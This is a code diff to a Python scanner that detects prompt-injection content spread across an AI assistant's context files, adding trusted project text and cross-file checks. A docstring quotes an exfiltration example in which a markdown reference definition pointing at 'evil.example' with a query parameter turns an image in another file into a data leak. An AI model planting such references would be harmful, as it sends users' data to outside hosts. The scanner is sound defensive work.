@@ -99,6 +99,15 @@ class Part(NamedTuple):
     file: str  # how messages name it
     first_line: int  # the file's line of ``body[0]`` (frontmatter moves a body down)
     named: bool = False  # ``body`` is the file's name, the heading the document gives it
+    # The project's own text, read with the user's (a label's first definition wins, wherever it
+    # is): never a finding, never blocked.
+    trusted: bool = False
+
+    def scanned(self, manifest: Manifest) -> list[Found]:
+        """Its findings read alone (none for the project's own text)."""
+        if self.trusted:
+            return []
+        return scan(manifest, self.body, self.file, self.first_line, self.named)
 
 
 def heading(display: str, file: str) -> Part:
@@ -108,14 +117,31 @@ def heading(display: str, file: str) -> Part:
     return Part(f"## {name}", file, 1, named=True)
 
 
+def project_part(body: str, display: str) -> Part | None:
+    """A project file's text as a part of the join, trusted; None when it holds no image, whose
+    destination a user's definition written first could set. ``composed`` reads it only when a
+    user's file defines a label its reference images use: reading the project whole at every
+    call cost a check 60 times its time at ten times a usual project's size."""
+    if "![" not in body:
+        return None
+    return Part(body, display, 1, trusted=True)
+
+
 def composed(manifest: Manifest, parts: Sequence[Part]) -> list[Found]:
     """The injection findings ``parts`` make together, in the order a document holds them, that
     none makes alone, each placed in the part holding its text. A renderer reads a document
     whole: a reference definition in one file is the destination of an image in another
     (``[l]: https://evil.example/?q=…`` in USER.md, ``![x][l]`` in MEMORY.md), and a
-    ``<style>`` one file leaves open is the stylesheet of the next one's ``url()``. Secrets and
-    hidden text are characters of one file: a join adds none."""
-    if len(parts) < 2:
+    ``<style>`` one file leaves open is the stylesheet of the next one's ``url()``; a user's
+    definition written before the project's takes over the project's image (adversary16 D13).
+    A trusted part (the project's own text) is read with the others, its findings none. Secrets
+    and hidden text are characters of one file: a join adds none."""
+    # The project's text is read only where a user's definition may set one of its images.
+    defined = {
+        label for p in parts if not p.trusted for label in injection.definition_labels(p.body)
+    }
+    parts = [p for p in parts if not p.trusted or injection.image_labels(p.body) & defined]
+    if len(parts) < 2 or all(part.trusted for part in parts):
         return []
     joined = "\n\n".join(part.body for part in parts)
     readings = [text for text in _readings(manifest, joined) if injection.scan(text)]
@@ -124,14 +150,41 @@ def composed(manifest: Manifest, parts: Sequence[Part]) -> list[Found]:
     rules = manifest.injection
     allowed = injection.allowance(rules.allow, rules.allow_files, rules.allow_hosts)
     origins = [Origin(part.body, part.file, part.first_line, named=part.named) for part in parts]
-    seen = {_place(f) for part in parts for f in scan(manifest, *part)}
+    seen = {_place(f) for part in parts for f in part.scanned(manifest)}
+    trusted = {part.file for part in parts if part.trusted}
+    project: set[tuple] | None = None  # what the project's texts make alone, asked when needed
     found = []
     for text in readings:
         for finding in injection.find(text, origins, allowed):
+            if finding.span.file in trusted:
+                if project is None:
+                    project = _project_made(manifest, [p for p in parts if p.trusted], allowed)
+                if _place(finding) in project:
+                    continue
+                finding = _unplaced(finding, parts)
             if _place(finding) not in seen:
                 seen.add(_place(finding))
                 found.append(finding)
     return found
+
+
+def _project_made(manifest: Manifest, parts: Sequence[Part], allowed) -> set[tuple]:
+    """The places of what the project's own texts make, read joined without the user's."""
+    joined = "\n\n".join(part.body for part in parts)
+    origins = [Origin(part.body, part.file, part.first_line) for part in parts]
+    return {
+        _place(f)
+        for text in _readings(manifest, joined)
+        for f in injection.find(text, origins, allowed)
+    }
+
+
+def _unplaced(finding: Found, parts: Sequence[Part]) -> Found:
+    """A finding the user's text made in the project's (the fetch of a project's reference image
+    whose definition the wide scan did not place): the first user file's, with no line, so that
+    blocking takes the user's files whole rather than leave it."""
+    first = next(part for part in parts if not part.trusted and not part.named)
+    return finding._replace(span=finding.span.replace(file=first.file, line=None, column=None))
 
 
 def _place(finding: Found) -> tuple:
@@ -155,23 +208,25 @@ def contain_together(manifest: Manifest, parts: Sequence[Part]) -> list[tuple[st
     held = [_Held(part) for part in parts]
     while True:
         for one in held:
-            while found := scan(
-                manifest, one.body, one.part.file, one.part.first_line, one.part.named
-            ):
+            while found := one.part._replace(body=one.body).scanned(manifest):
                 one.block(found)
         together = composed(manifest, [one.part._replace(body=one.body) for one in held])
         if not together:
             return [(one.body, one.every) for one in held]
         # A finding placed without a line in a file with a heading is the heading's.
-        by_place = {(one.part.file, one.part.named): one for one in held}
+        by_place = {(o.part.file, o.part.named): o for o in held if not o.part.trusted}
         before = [one.body for one in held]
+        # Each part's findings blocked at once: their lines are of its body before any is.
+        owned: dict[int, list[Found]] = {}
         for finding in together:
             named = (finding.span.file, True) in by_place and finding.span.line is None
             owner = by_place.get((finding.span.file, named))
             if owner is not None:
-                owner.block([finding])
+                owned.setdefault(held.index(owner), []).append(finding)
+        for index, found in owned.items():
+            held[index].block(found)
         if [one.body for one in held] == before:
-            for one in held:
+            for one in (one for one in held if not one.part.trusted):
                 one.block([f._replace(span=f.span.replace(line=None)) for f in together])
 
 
